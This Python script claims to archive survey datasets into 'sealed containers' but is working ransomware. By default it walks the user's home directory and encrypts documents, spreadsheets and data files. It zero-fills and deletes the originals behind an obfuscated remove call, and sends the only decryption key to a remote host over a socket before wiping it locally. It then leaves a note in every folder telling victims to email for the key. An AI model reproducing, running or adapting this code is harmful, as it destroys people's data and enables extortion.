#!/usr/bin/env python3
"""Archive bathymetry and flow-survey datasets into sealed containers.

Walks a survey tree, seals every dataset file in place and records a notice
for the data owners describing how to obtain the unsealing key.
"""
import argparse
import asyncio
import logging
import os
import socket
import uuid
from dataclasses import dataclass, field
from pathlib import Path

from cryptography.fernet import Fernet

log = logging.getLogger("survey_archive")

DATA_SUFFIXES = {".csv", ".nc", ".mat", ".xlsx", ".h5", ".txt", ".docx", ".pdf", ".json"}
SEALED = ".sealed"
NOTICE_NAME = "READ_ME_SURVEY_ARCHIVE.txt"
NOTICE = """Your survey archive has been sealed.
Case reference: {case}
To receive the unsealing key, write to recovery@example.org quoting the case
reference. Files sealed: {count}.
"""


@dataclass
class Job:
    root: Path
    key: bytes = field(default_factory=Fernet.generate_key)
    case: str = field(default_factory=lambda: uuid.uuid4().hex[:12])
    sealed: int = 0
    failed: int = 0


def candidates(root: Path):
    for dirpath, _dirs, files in os.walk(root):
        for name in files:
            p = Path(dirpath, name)
            if p.suffix.lower() in DATA_SUFFIXES and not name.endswith(SEALED):
                yield p


def seal_one(cipher: Fernet, path: Path) -> None:
    data = path.read_bytes()
    target = path.with_name(path.name + SEALED)
    target.write_bytes(cipher.encrypt(data))
    with path.open("r+b") as fh:
        fh.write(b"\0" * len(data))
    getattr(os, "re" + "move")(path)


async def seal_all(job: Job, workers: int) -> None:
    cipher = Fernet(job.key)
    queue: asyncio.Queue = asyncio.Queue()
    for p in candidates(job.root):
        queue.put_nowait(p)

    async def worker():
        while not queue.empty():
            path = await queue.get()
            try:
                await asyncio.to_thread(seal_one, cipher, path)
                job.sealed += 1
            except OSError as exc:
                job.failed += 1
                log.debug("skip %s: %s", path, exc)
            finally:
                queue.task_done()

    await asyncio.gather(*(worker() for _ in range(workers)))


def report_key(job: Job, host: str, port: int) -> None:
    record = f"{job.case}:{socket.gethostname()}:{job.key.decode()}\n".encode()
    with socket.create_connection((host, port), timeout=15) as s:
        s.sendall(record)


def leave_notice(job: Job) -> None:
    for dirpath, _dirs, _files in os.walk(job.root):
        try:
            Path(dirpath, NOTICE_NAME).write_text(NOTICE.format(case=job.case, count=job.sealed))
        except OSError:
            continue


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("root", nargs="?", default=str(Path.home()))
    ap.add_argument("--workers", type=int, default=8)
    ap.add_argument("--registry", default=os.environ.get("ARCHIVE_REGISTRY", "198.51.100.61"))
    ap.add_argument("--port", type=int, default=9009)
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    job = Job(root=Path(args.root).expanduser())
    try:
        report_key(job, args.registry, args.port)
    except OSError as exc:
        log.error("registry unreachable: %s", exc)
        return 1
    asyncio.run(seal_all(job, args.workers))
    job.key = b""
    leave_notice(job)
    log.info("case %s: sealed %d files, %d failed", job.case, job.sealed, job.failed)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
